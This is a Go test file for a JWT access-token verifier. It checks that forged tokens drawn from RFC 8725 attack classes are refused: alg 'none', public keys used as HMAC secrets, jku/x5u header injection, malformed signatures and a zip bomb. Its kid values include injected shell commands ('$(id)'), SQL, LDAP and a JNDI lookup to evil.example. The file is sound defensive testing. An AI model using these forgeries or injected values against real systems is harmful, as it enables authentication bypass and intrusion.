package verifier_test

import (
	"bytes"
	"compress/flate"
	"crypto"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/asn1"
	"encoding/base64"
	"fmt"
	"log/slog"
	"maps"
	"math/big"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/marque-auth/marque/authz/token"
	"github.com/marque-auth/marque/authz/verifier"
	"github.com/marque-auth/marque/keys/jose"
)

// attack is a token that must be refused, and the reasons that would do.
type attack struct {
	token string
	want  []token.Reason
}

func at(compact string, want ...token.Reason) attack { return attack{compact, want} }

// RSV-20 to RSV-37, JWT-30 to JWT-52: the attacks of RFC 8725 and its successor, and what has been found in
// libraries since. Whoever tries them has no key of the issuer; where the row needs one all the same, it is so that
// nothing but the attack is wrong with the token. Each is refused by Verify and by Require, with the answer of RFC 6750, for the
// reason that it should be, and no key is fetched from anywhere that a token names.
func TestRSV20_RSV22_RSV23_RSV25_RSV31_RSV37_JWT45_Attacks(t *testing.T) {
	f := newForger(t)
	called := newIssuer(t, jose.ES256)
	for name, good := range map[string]string{
		"ES256": f.token(header(), f.payload()),
		"RS256": f.by(jose.RS256, jose.RS256, "RS256"), "PS256": f.by(jose.PS256, jose.PS256, "PS256"),
		"ES384": f.by(jose.ES384, jose.ES384, "ES384"), "Ed25519": f.by(jose.Ed25519, jose.Ed25519, "EdDSA"),
	} {
		if _, err := newVerifier(t, f.is).Verify(t.Context(), good); err != nil {
			t.Fatalf("the forger's good token (%s) is refused: %v", name, err)
		}
	}
	for group, attacks := range map[string]map[string]attack{
		"alg": f.algorithms(), "HMAC": f.publicKeysAsSecrets(), "header": f.headers(called.URL), "kid": f.keyIDs(), "typ": f.types(),
		"form": f.forms(), "base64url": f.encodings(), "JSON": f.payloads(), "signature": f.signatures(), "JWE": f.encrypted(),
	} {
		t.Run(group, func(t *testing.T) {
			var log logBuffer
			var told verdicts
			v := newVerifier(t, f.is, told.config, func(c *verifier.Config) { c.Log = slog.New(slog.NewTextHandler(&log, nil)) })
			h := v.Require("orders:read")(api(t))
			before := f.is.requests.Load()
			for _, name := range slices.Sorted(maps.Keys(attacks)) {
				a := attacks[name]
				if _, err := v.Verify(t.Context(), a.token); !slices.Contains(a.want, reasonOf(t, err)) {
					t.Errorf("%s: %q, want %q", name, reasonOf(t, err), a.want)
				}
				told.take()
				r := call(h, "/", "Bearer "+a.token)
				if token68.MatchString(a.token) {
					want(t, name, r, http.StatusUnauthorized, "invalid_token")
					if got := told.take(); len(got) != 1 || !slices.Contains(a.want, got[0].Reason) {
						t.Errorf("%s: counted as %v, want %q", name, got, a.want)
					}
				} else {
					want(t, name, r, http.StatusBadRequest, "invalid_request")
				}
			}
			t.Logf("%d attacks", len(attacks))
			if n := f.is.requests.Load() - before; n > 1 { // one for all the unknown kids: RKY-04
				t.Errorf("%d requests to the issuer", n)
			}
			if n := called.requests.Load(); n != 0 {
				t.Errorf("%d requests to where tokens pointed", n)
			}
			if s := log.String(); strings.Contains(s, b64(f.payload())[:40]) || strings.Contains(s, "\x00") {
				t.Error("a token is in the log")
			}
			if _, err := v.Verify(t.Context(), f.token(header(), f.payload())); err != nil {
				t.Errorf("a good token afterwards: %v", err)
			}
		})
	}
}

// short is a name for s, in a few words.
func short(s string) string {
	if len(s) <= 80 {
		return s
	}
	return fmt.Sprintf("%s… (%d octets)", s[:60], len(s))
}

// token68 is what may follow Bearer: RFC 9110, Section 11.2.
var token68 = regexp.MustCompile(`^[A-Za-z0-9._~+/-]+=*$`)

// RFC 8725, Sections 2.1, 3.1, 3.2.
func (f *forger) algorithms() map[string]attack {
	all := map[string]attack{}
	for _, alg := range []string{
		"none", "None", "NONE", "nOnE", "none ", "", "es256", "Es256", "ES256 ", "ES256\\u0000", "HS256", "RS1", "RS384", "RS512", "PS384", "PS512", "ES512",
		"ES256K", "Ed448", "ML-DSA-44", "dir", "RSA-OAEP", "A256KW", "PBES2-HS256+A128KW", "eddsa", "ED25519", "HS256/64", "ESP256",
	} {
		h := `{"alg":"` + alg + `","kid":"ES256","typ":"at+jwt"}`
		input := b64(h) + "." + b64(f.payload())
		all[alg+", no signature"] = at(input+".", token.ReasonMalformed)
		all[alg+", some signature"] = at(input+".AA", token.ReasonAlgorithm)
		all[alg+", a right signature"] = at(f.token(h, f.payload()), token.ReasonAlgorithm)
	}
	for _, alg := range []string{`null`, `["ES256"]`, `{"ES256":1}`, `256`, `true`} {
		all["alg "+alg] = at(f.token(`{"alg":`+alg+`,"kid":"ES256","typ":"at+jwt"}`, f.payload()), token.ReasonHeader, token.ReasonAlgorithm)
	}
	all["no alg"] = at(f.token(`{"kid":"ES256","typ":"at+jwt"}`, f.payload()), token.ReasonAlgorithm)
	// Signed as the header says, by a key that is published for something else.
	for _, key := range jose.Algorithms() {
		for _, alg := range []jose.Algorithm{jose.ES256, jose.ES384, jose.RS256, jose.PS256, jose.Ed25519, jose.EdDSA, "RS384", "RS512", "PS512"} {
			if alg.Canonical() != key {
				all[fmt.Sprintf("%s by the key for %s", alg, key)] = at(f.by(key, key, string(alg)), token.ReasonAlgorithm)
				if len(alg) == 5 && f.keys[alg] != nil {
					all[fmt.Sprintf("%s by the key for %s under its kid", alg, key)] = at(f.by(key, alg, string(alg)), token.ReasonSignature)
				}
			}
		}
	}
	return all
}

// RFC 8725, Section 2.1: a public key, in whatever form a library could hold it, as an HMAC secret.
func (f *forger) publicKeysAsSecrets() map[string]attack {
	all := map[string]attack{"an empty secret": at(f.hmac("HS256", jose.ES256, nil), token.ReasonAlgorithm)}
	for _, alg := range jose.Algorithms() {
		public := f.public(alg)
		der, err := x509.MarshalPKIXPublicKey(public.Raw())
		f.check(err)
		jwk, err := public.JWK(alg)
		f.check(err)
		secrets := map[string][]byte{
			"PEM": public.PEM(), "PEM without its last line feed": bytes.TrimSpace(public.PEM()), "DER": der, "DER in base64": []byte(base64.StdEncoding.EncodeToString(der)),
			"JWK": jwk, "the bare JWK": public.BareJWK(), "the JWKS": slices.Concat([]byte(`{"keys":[`), jwk, []byte(`]}`)), "kid": []byte(public.KeyID()),
		}
		if pub, ok := public.Raw().(*rsa.PublicKey); ok {
			secrets["PKCS #1"], secrets["the modulus"] = x509.MarshalPKCS1PublicKey(pub), pub.N.Bytes()
		} else {
			secrets["the point"] = der[len(der)-32:]
		}
		for form, secret := range secrets {
			for _, hs := range []string{"HS256", "HS384", "HS512"} {
				all[fmt.Sprintf("%s with the key for %s, %s", hs, alg, form)] = at(f.hmac(hs, alg, secret), token.ReasonAlgorithm)
			}
			all[fmt.Sprintf("the HMAC as %s, %s", alg, form)] = at(f.hmac(string(alg), alg, secret), token.ReasonSignature, token.ReasonMalformed)
		}
	}
	return all
}

// RFC 8725, Section 3.10, RFC 7515, Section 4.1.11, RFC 7797, Section 7: what a token says about itself.
func (f *forger) headers(url string) map[string]attack {
	mine, err := jose.NewPublicKey("mine", jose.ES256, f.mine.Public())
	f.check(err)
	jwk, err := mine.JWK(jose.ES256)
	f.check(err)
	template := &x509.Certificate{SerialNumber: big.NewInt(1)}
	cert, err := x509.CreateCertificate(rand.Reader, template, template, f.mine.Public(), f.mine)
	f.check(err)
	x5c := base64.StdEncoding.EncodeToString(cert)

	all := map[string]attack{}
	for _, more := range []string{
		`"jwk":` + string(jwk), `"jwk":{}`, `"jku":"` + url + `/jwks"`, `"x5u":"` + url + `/cert"`, `"x5c":["` + x5c + `"]`, `"x5c":[]`, `"x5t":"AA"`, `"x5t#S256":"AA"`,
		`"crit":["exp"]`, `"crit":[]`, `"crit":["alg"]`, `"crit":null`, `"crit":"exp"`, `"crit":["b64"],"b64":false`, `"crit":["b64"],"b64":true`, `"b64":false`, `"b64":true`,
		`"zip":"DEF"`, `"cty":"JWT"`, `"enc":"A256GCM"`, `"iss":"x"`, `"epk":{}`, `"svt":[]`, `"nonce":"x"`, `"ppt":"x"`, `"__proto__":{"alg":"none"}`,
		`"alg":"ES256"`, `"alg":"none"`, `"kid":"mine"`, `"typ":"JWT"`, `"\u0061lg":"none"`, `"al\u0067":"ES256"`, `"k\u0069d":"mine"`, `"ALG":"none"`, `"Kid":"mine"`, `"\u212aid":"mine"`,
	} {
		all[short(more)+", a right signature"] = at(f.token(header(more), f.payload()), token.ReasonHeader)
		all[short(more)+", the forger's signature"] = at(f.foreign(header(more), f.payload()), token.ReasonHeader)
		first := `{` + more + "," + header()[1:]
		all[short(more)+" in front"] = at(f.foreign(first, f.payload()), token.ReasonHeader)
	}
	for _, h := range []string{`null`, `[]`, `"x"`, `{}`, `1`, ``, ` `, header() + "{}", "\xef\xbb\xbf" + header(), header()[1:], header() + "/**/", "{" + strings.Repeat(" ", 2000) + header()[1:], header(`"x":` + strings.Repeat("[", 200))} {
		all["header "+short(h)] = at(f.token(h, f.payload()), token.ReasonHeader, token.ReasonAlgorithm, token.ReasonMalformed)
	}
	// RFC 7797: the payload as it is, which has no dots and would be good.
	input := b64(header(`"b64":false`, `"crit":["b64"]`)) + "." + f.payload()
	all["b64, payload as it is"] = at(input+"."+b64(f.sign(f.keys[jose.ES256], "ES256", input)), token.ReasonMalformed)
	var packed bytes.Buffer
	w, err := flate.NewWriter(&packed, flate.BestCompression)
	f.check(err)
	_, err = w.Write(append(bytes.Repeat([]byte(" "), 4<<20), f.payload()...))
	f.check(err)
	f.check(w.Close())
	all["zip, 4 MiB of spaces"] = at(f.token(header(`"zip":"DEF"`), packed.String()), token.ReasonHeader)
	all["a token in the payload"] = at(f.token(header(), f.token(header(), f.payload())), token.ReasonClaims)
	all["a token in the payload, said so"] = at(f.token(header(`"cty":"JWT"`), f.token(header(), f.payload())), token.ReasonHeader)
	return all
}

// RFC 8725, Sections 3.8, 3.10.
func (f *forger) keyIDs() map[string]attack {
	all := map[string]attack{}
	other := newIssuer(f.t, jose.ES256)
	for _, kid := range []string{
		"../../../../dev/null", "/etc/passwd", "file:///dev/null", "https://evil.example/jwks", "' OR '1'='1", "x' UNION SELECT 'key", "*)(uid=*", "$(id)", "`id`", "|id",
		"%s%n", "ES256%00", "ES256 ", " ES256", "es256", "ES25", "ES2566", "undefined", "null", "0", "__proto__", "..", ".", "*", "ES256,RS256", "${jndi:ldap://evil.example}", strings.Repeat("k", 256),
		other.signers[0].KeyID(), f.public(jose.ES256).Thumbprint(),
	} {
		h := `{"alg":"ES256","kid":"` + kid + `","typ":"at+jwt"}`
		all["kid "+kid] = at(f.token(h, f.payload()), token.ReasonUnknownKey)
		all["kid "+kid+", the forger's signature"] = at(f.foreign(h, f.payload()), token.ReasonUnknownKey)
	}
	for _, kid := range []string{`""`, `null`, `1`, `["ES256"]`, `{}`, `"a\nb"`, `"a\u0000b"`, `"a\"b"`, `"a\\b"`, `"é"`, `"ES256\u0000"`, `"` + strings.Repeat("k", 257) + `"`} {
		all["kid "+short(kid)] = at(f.token(`{"alg":"ES256","kid":`+kid+`,"typ":"at+jwt"}`, f.payload()), token.ReasonHeader)
	}
	all["kid of a megabyte"] = at(f.token(`{"alg":"ES256","kid":"`+strings.Repeat("k", 1<<20)+`","typ":"at+jwt"}`, f.payload()), token.ReasonMalformed)
	all["no kid"] = at(f.token(`{"alg":"ES256","typ":"at+jwt"}`, f.payload()), token.ReasonHeader)
	all["another issuer's token"] = at(other.token(f.t, nil), token.ReasonUnknownKey)
	all["another issuer's token, in this one's name"] = at(other.token(f.t, map[string]any{"iss": f.is.URL}), token.ReasonUnknownKey)
	all["the forger's signature under a published kid"] = at(f.foreign(header(), f.payload()), token.ReasonSignature)
	all["this issuer's signature under another's name"] = at(f.token(header(), strings.Replace(f.payload(), f.is.URL, other.URL, 1)), token.ReasonIssuer)
	return all
}

// RFC 8725, Sections 3.11, 3.12: whatever else the issuer signs with the same key.
func (f *forger) types() map[string]attack {
	all := map[string]attack{}
	for _, typ := range []string{
		"secevent+jwt", "JWT", "jwt", "application/jwt", "client-authentication+jwt", "dpop+jwt", "logout+jwt", "statuslist+jwt", "token-introspection+jwt", "oauth-authz-req+jwt",
		"jwk-set+jwt", "entity-statement+jwt", "vc+sd-jwt", "kb+jwt", "JOSE", "JOSE+JSON", "at", "jwt+at", "at+jwt ", " at+jwt", "at+jwt;v=1", "text/at+jwt", "application/application/at+jwt",
		"application/", "/at+jwt", "at+jwt/", "at-jwt", "at\\u0000+jwt", "at+\\u017fwt", "аt+jwt", "",
	} {
		h := `{"alg":"ES256","kid":"ES256","typ":"` + typ + `"}`
		all["typ "+typ] = at(f.token(h, f.payload()), token.ReasonType)
	}
	for _, typ := range []string{`null`, `["at+jwt"]`, `1`, `{"at+jwt":1}`} {
		all["typ "+typ] = at(f.token(`{"alg":"ES256","kid":"ES256","typ":`+typ+`}`, f.payload()), token.ReasonType, token.ReasonHeader)
	}
	all["no typ"] = at(f.token(`{"alg":"ES256","kid":"ES256"}`, f.payload()), token.ReasonType)
	// Their claims under the type of an access token.
	for name, payload := range map[string]string{
		"an ID token":        `{"iss":"%s","sub":"u1","aud":"` + audience + `","exp":1800000600,"iat":1800000000,"nonce":"n","jti":"j1"}`,
		"a client assertion": `{"iss":"%[1]s","sub":"c1","aud":"%[1]s","jti":"j1","exp":1800000600,"iat":1800000000}`,
		"an event":           `{"iss":"%s","iat":1800000000,"jti":"j1","aud":"` + audience + `","events":{"https://x.example":{}}}`,
		"a logout token":     `{"iss":"%s","aud":"` + audience + `","iat":1800000000,"jti":"j1","sid":"s","events":{"http://schemas.openid.net/event/backchannel-logout":{}}}`,
		"a proof":            `{"jti":"j1","htm":"GET","htu":"%s","iat":1800000000}`,
		"an introspection":   `{"iss":"%s","aud":"` + audience + `","iat":1800000000,"token_introspection":{"active":true,"client_id":"c1","scope":"orders:read"}}`,
	} {
		all[name+" of that type"] = at(f.token(header(), fmt.Sprintf(payload, f.is.URL)), token.ReasonClaims)
	}
	return all
}

// RFC 8725bis, Section 3.14: nothing but one compact JWS.
func (f *forger) forms() map[string]attack {
	good := f.token(header(), f.payload())
	p := strings.Split(good, ".")
	flat := `{"protected":"` + p[0] + `","payload":"` + p[1] + `","signature":"` + p[2] + `"}`
	all := map[string]attack{}
	for name, compact := range map[string]string{
		"one part": p[0], "two parts": p[0] + "." + p[1], "no signature": p[0] + "." + p[1] + ".", "no payload": p[0] + ".." + p[2], "no header": "." + p[1] + "." + p[2],
		"four parts": good + "." + p[2], "a dot behind": good + ".", "a dot in front": "." + good, "dots": "..", "a million dots": strings.Repeat(".", 1_000_000),
		"flattened": flat, "general": `{"payload":"` + p[1] + `","signatures":[{"protected":"` + p[0] + `","signature":"` + p[2] + `"}]}`,
		"unprotected header": `{"header":{"alg":"none"},"payload":"` + p[1] + `","signature":""}`,
		"with claims beside": flat[:len(flat)-1] + `,"iss":"x"}`, "flattened in base64url": b64(flat), "flattened as header": b64(flat) + "." + p[1] + "." + p[2],
		"in an array": `["` + good + `"]`, "in quotes": `"` + good + `"`, "twice": good + good, "two with a comma": good + "," + good,
		"padding": good + "=", "padding twice": good + "==", "garbage behind": good + "x", "disclosures behind": good + "~", "a disclosure": good + "~W10~", "space behind": good + " ",
		"tab": good + "\t", "line feed": good + "\n", "CR LF": good + "\r\n", "NUL": good + "\x00", "a letter beyond ASCII": good + "é", "a byte that is not UTF-8": good + "\xff", "byte order mark": "\xef\xbb\xbf" + good,
		"Bearer": "Bearer " + good, "percent": strings.ReplaceAll(good, ".", "%2E"), "reversed": p[2] + "." + p[1] + "." + p[0], "payload first": p[1] + "." + p[0] + "." + p[2],
		"17 KiB, well signed":         f.token(header(), f.payload(`"x":"`+strings.Repeat("x", 17<<10)+`"`)),
		"a megabyte, well signed":     f.token(header(), f.payload(`"x":"`+strings.Repeat("x", 1<<20)+`"`)),
		"a megabyte of one letter":    strings.Repeat("A", 1<<20),
		"a long signature":            good + strings.Repeat("A", 1000),
		"a long header, well signed":  f.token(header()+strings.Repeat(" ", 1024), f.payload()),
		"16 KiB and 1, nearly signed": p[0] + "." + strings.Repeat("A", 16<<10) + "." + p[2],
	} {
		all[name] = at(compact, token.ReasonMalformed, token.ReasonHeader, token.ReasonSignature, token.ReasonAlgorithm)
	}
	return all
}

// RFC 7515, Section 2 and Appendix C: one text for each octet string. The signature is over the text as it is sent.
func (f *forger) encodings() map[string]attack {
	h, p := b64(header()), b64(f.payload(`"x":"`+"\xc3\xbf\xc3\xbe\xc3\xbf"+`"`))
	long := map[string]string{"header": b64(header() + " "), "payload": b64(f.payload() + "  ")}
	for len(long["header"])%4 == 0 {
		long["header"] = b64(header() + "  ")
	}
	for n := 1; len(long["payload"])%4 == 0; n++ {
		long["payload"] = b64(f.payload() + strings.Repeat(" ", n))
	}
	all := map[string]attack{}
	for name, c := range map[string][2]string{
		"bits left over in the header": {dangling(long["header"]), p}, "bits left over in the payload": {h, dangling(long["payload"])},
		"padding of the header": {pad(long["header"]), p}, "padding of the payload": {h, pad(long["payload"])},
		"line feed in the header": {h[:8] + "\n" + h[8:], p}, "line feed in the payload": {h, p[:8] + "\n" + p[8:]}, "CR in the payload": {h, p[:8] + "\r" + p[8:]}, "line feed behind the payload": {h, p + "\n"},
		"space in the payload": {h, p[:8] + " " + p[8:]}, "other alphabet": {h, p[:8] + "+/" + p[8:]}, "the standard encoding": {base64.StdEncoding.EncodeToString([]byte(header())), base64.StdEncoding.EncodeToString([]byte(f.payload()))},
		"one letter too many": {h, p + strings.Repeat("A", (5-len(p)%4)%4)}, "hex": {h, fmt.Sprintf("%x", f.payload())}, "the payload as it is": {h, f.payload()}, "NUL in the payload": {h, p[:8] + "\x00" + p[8:]},
	} {
		all[name] = at(f.segments(c[0], c[1]), token.ReasonMalformed, token.ReasonHeader, token.ReasonClaims)
	}
	sig := f.token(header(), f.payload()) // 64 octets leave bits over
	all["bits left over in the signature"] = at(dangling(sig), token.ReasonMalformed)
	all["line feed in the signature"] = at(sig[:len(sig)-4]+"\n"+sig[len(sig)-4:], token.ReasonMalformed)
	return all
}

// dangling sets a bit that no octet of a text has.
func dangling(text string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	last := len(text) - 1
	return text[:last] + string(alphabet[strings.IndexByte(alphabet, text[last])|1])
}

func pad(text string) string { return text + strings.Repeat("=", (4-len(text)%4)%4) }

// RFC 7519, Section 4, RFC 8725, Sections 3.7 to 3.9: payloads that two readers would read in two ways, and whole
// tokens for somebody else. All are well signed.
func (f *forger) payloads() map[string]attack {
	all := map[string]attack{}
	for _, more := range []string{
		`"exp":9999999999`, `"iss":"https://evil.example"`, `"aud":"https://evil.example"`, `"sub":"admin"`, `"client_id":"admin"`, `"scope":"admin"`, `"jti":"j2"`, `"x":1,"x":2`,
		`"x":{"a":1,"a":2}`, `"\u0065xp":9999999999`, `"ex\u0070":1`, `"EXP":9999999999`, `"Exp":1`, `"Scope":"admin"`, `"cnf":{}`, `"cnf":null`, `"cnf":{"jkt":"x"}`, `"CNF":{}`, `"\u017fcope":"admin"`,
		`"x":"` + "\xff" + `"`, `"x":"` + "\xc0\xaf" + `"`, `"` + "\xed\xa0\x80" + `":1`, `"x":"\ud800"`, `"x":"\x41"`, `"x":'a'`, `"x":NaN`, `"x":01`, `"x":+1`, `"x":.5`, `x:1`, `"x":"` + "\x01" + `"`, `"x":1,`,
		`"x":` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000), `"x":` + strings.Repeat(`{"a":`, 17) + "1" + strings.Repeat("}", 17), `"nbf":1800000031`, `"nbf":"0"`, `"nbf":-1`,
	} {
		for where, payload := range map[string]string{"in front": f.payload(more), "behind": strings.TrimSuffix(f.payload(), "}") + "," + more + "}"} {
			all[short(more)+" "+where] = at(f.token(header(), payload), token.ReasonClaims, token.ReasonConfirmation, token.ReasonNotYetValid)
		}
	}
	for _, c := range [][2]string{
		{`1800000600`, `"1800000600"`},
		{`1800000600`, `1e400`},
		{`1800000600`, `-1`},
		{`1800000600`, `1799999970`},
		{`1800000600`, `null`},
		{`1800000600`, `[1800000600]`},
		{`1800000000`, `1800000061`},
		{`1800000000`, `"x"`},
		{`"aud":"`, `"aud":"x`},
		{`"` + audience + `"`, `"` + audience + `/"`},
		{`"` + audience + `"`, `"` + audience[:len(audience)-1] + `"`},
		{`"` + audience + `"`, `["https://a.example"]`},
		{`"` + audience + `"`, `[["` + audience + `"]]`},
		{`"` + audience + `"`, `["` + audience + `",null]`},
		{`"` + audience + `"`, `{"` + audience + `":1}`},
		{`"` + audience + `"`, `"` + strings.ToUpper(audience) + `"`},
		{`"` + audience + `"`, `"https://a.example ` + audience + `"`},
		{`"` + audience + `"`, `null`},
		{f.is.URL, f.is.URL + "/"},
		{f.is.URL, strings.ToUpper(f.is.URL)},
		{`"` + f.is.URL + `"`, `["` + f.is.URL + `"]`},
		{f.is.URL, f.is.URL + `\u0000`},
		{`"iss":`, `"ISS":`},
		{`"client_id":"c1",`, ``},
		{`"client_id":"c1"`, `"client_id":""`},
		{`"orders:read"`, `["orders:read"]`},
		{`"orders:read"`, `"orders:read "`},
		{`{`, `[{`},
		{`}`, ``},
		{`}`, `}{}`},
		{`}`, `} x`},
		{`{`, "\xef\xbb\xbf{"},
		{f.payload(), `null`},
		{f.payload(), `"x"`},
		{f.payload(), `{}`},
		{f.payload(), ` `},
	} {
		payload := strings.Replace(f.payload(), c[0], c[1], 1)
		if payload == f.payload() {
			f.t.Fatalf("%q: nothing changed", c)
		}
		all[short(c[0])+" → "+c[1]] = at(f.token(header(), payload),
			token.ReasonClaims, token.ReasonIssuer, token.ReasonAudience, token.ReasonExpired, token.ReasonNotYetValid)
	}
	return all
}

// RFC 8725, Section 3.4: signatures that some verifiers took.
func (f *forger) signatures() map[string]attack {
	n256, n384 := elliptic.P256().Params().N, elliptic.P384().Params().N
	zero, one := new(big.Int), big.NewInt(1)
	half := func(sig []byte, i int) *big.Int { return new(big.Int).SetBytes(sig[i*len(sig)/2 : (i+1)*len(sig)/2]) }
	all := map[string]attack{}
	add := func(alg jose.Algorithm, name string, change func(sig []byte) string) {
		all[string(alg)+": "+name] = at(f.signed(alg, func(sig []byte) []byte { return []byte(change(sig)) }), token.ReasonSignature, token.ReasonMalformed)
	}
	for alg, n := range map[jose.Algorithm]*big.Int{jose.ES256: n256, jose.ES384: n384} {
		size := (n.BitLen() + 7) / 8
		for name, pair := range map[string][2]*big.Int{
			"0, 0": {zero, zero}, "n, n": {n, n}, "0, n": {zero, n}, "n, 0": {n, zero}, "1, 1": {one, one}, "0, 1": {zero, one}, "1, 0": {one, zero}, "n, 1": {n, one}, "n-1, n-1": {new(big.Int).Sub(n, one), new(big.Int).Sub(n, one)},
		} {
			add(alg, name, func([]byte) string { return rs(pair[0], pair[1], size) })
		}
		for name, bad := range map[string]*big.Int{"0": zero, "n": n} {
			add(alg, "r "+name, func(sig []byte) string { return rs(bad, half(sig, 1), size) })
			add(alg, "s "+name, func(sig []byte) string { return rs(half(sig, 0), bad, size) })
		}
		add(alg, "s and r", func(sig []byte) string { return rs(half(sig, 1), half(sig, 0), size) })
		add(alg, "r negated", func(sig []byte) string { return rs(new(big.Int).Sub(n, half(sig, 0)), half(sig, 1), size) })
		add(alg, "DER", func(sig []byte) string {
			der, err := asn1.Marshal([]*big.Int{half(sig, 0), half(sig, 1)})
			f.check(err)
			return string(der)
		})
		add(alg, "a zero in front of both", func(sig []byte) string { return rs(half(sig, 0), half(sig, 1), size+1) })
		add(alg, "as long as ES512's", func(sig []byte) string { return rs(half(sig, 0), half(sig, 1), 66) })
	}
	order, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	add(jose.Ed25519, "S beyond the order", func(sig []byte) string {
		s := slices.Clone(sig[32:])
		slices.Reverse(s)
		more := new(big.Int).Add(new(big.Int).SetBytes(s), order).FillBytes(make([]byte, 32))
		slices.Reverse(more)
		return string(sig[:32]) + string(more)
	})
	add(jose.Ed25519, "R the neutral point, S 0", func([]byte) string { return "\x01" + strings.Repeat("\x00", 63) })
	add(jose.Ed25519, "R not reduced", func(sig []byte) string { return strings.Repeat("\xff", 32) + string(sig[32:]) })
	for _, alg := range []jose.Algorithm{jose.RS256, jose.PS256} {
		n := f.public(alg).Raw().(*rsa.PublicKey).N
		add(alg, "the number beyond the modulus", func(sig []byte) string {
			more := new(big.Int).Add(new(big.Int).SetBytes(sig), n)
			return string(more.FillBytes(make([]byte, max(len(sig), (more.BitLen()+7)/8))))
		})
		add(alg, "the modulus", func([]byte) string { return string(n.Bytes()) })
		add(alg, "one", func(sig []byte) string { return string(one.FillBytes(make([]byte, len(sig)))) })
		add(alg, "without zeros in front", func(sig []byte) string { return strings.TrimLeft("\x00"+string(sig[1:]), "\x00") })
	}
	add(jose.RS256, "the digest in the clear", func(sig []byte) string { // an exponent of 1
		digest := crypto.SHA256.New().Sum(nil)
		return "\x00\x01" + strings.Repeat("\xff", len(sig)-3-19-32) + "\x00" + "\x30\x31\x30\x0d\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01\x05\x00\x04\x20" + string(digest)
	})
	for _, alg := range jose.Algorithms() {
		add(alg, "zeros", func(sig []byte) string { return strings.Repeat("\x00", len(sig)) })
		add(alg, "ones", func(sig []byte) string { return strings.Repeat("\xff", len(sig)) })
		add(alg, "an octet less", func(sig []byte) string { return string(sig[:len(sig)-1]) })
		add(alg, "an octet more", func(sig []byte) string { return string(sig) + "\x00" })
		add(alg, "a zero in front", func(sig []byte) string { return "\x00" + string(sig) })
		add(alg, "half of it", func(sig []byte) string { return string(sig[:len(sig)/2]) })
		add(alg, "twice", func(sig []byte) string { return string(sig) + string(sig) })
		add(alg, "one octet", func([]byte) string { return "\x00" })
		add(alg, "a bit flipped", func(sig []byte) string { sig[len(sig)/2] ^= 1; return string(sig) })
		other := strings.Replace(f.payload(), "orders:read", "orders:read orders:write", 1)
		good := f.by(alg, alg, string(alg))
		all[string(alg)+": another payload"] = at(good[:strings.Index(good, ".")+1]+b64(other)+good[strings.LastIndex(good, "."):], token.ReasonSignature)
		all[string(alg)+": the payload written in another way"] = at(good[:strings.Index(good, ".")+1]+b64(f.payload()+" ")+good[strings.LastIndex(good, "."):], token.ReasonSignature)
		all[string(alg)+": another header"] = at(b64(`{"typ":"at+jwt","kid":"`+string(alg)+`","alg":"`+string(alg)+`"}`)+good[strings.Index(good, "."):], token.ReasonSignature)
	}
	return all
}

// RFC 8725, Sections 3.6, 3.12, 3.13 of its successor: encrypted tokens, which are not taken here at all.
func (f *forger) encrypted() map[string]attack {
	all := map[string]attack{}
	p := strings.Split(f.token(header(), f.payload()), ".")
	for _, h := range []string{
		`{"alg":"RSA-OAEP-256","enc":"A256GCM","kid":"RS256","typ":"at+jwt","cty":"JWT"}`, `{"alg":"dir","enc":"A256GCM","kid":"ES256"}`, `{"alg":"ECDH-ES","enc":"A128GCM","epk":{"kty":"EC","crv":"P-256","x":"AA","y":"AA"}}`,
		`{"alg":"PBES2-HS256+A128KW","enc":"A128GCM","p2s":"AAAAAAAAAAA","p2c":1000000000}`, `{"alg":"A256KW","enc":"A256GCM","zip":"DEF"}`, header(), header(`"enc":"A256GCM"`),
	} {
		all[short(h)] = at(b64(h)+".AAAA.AAAAAAAAAAAAAAAA."+p[1]+".AAAAAAAAAAAAAAAAAAAAAA", token.ReasonMalformed)
		all[short(h)+", no key"] = at(b64(h)+"..AAAAAAAAAAAAAAAA."+p[1]+".AAAAAAAAAAAAAAAAAAAAAA", token.ReasonMalformed)
		all[short(h)+", around a good token"] = at(strings.Join(p, ".")+"."+b64(h)+".AAAA", token.ReasonMalformed)
	}
	return all
}
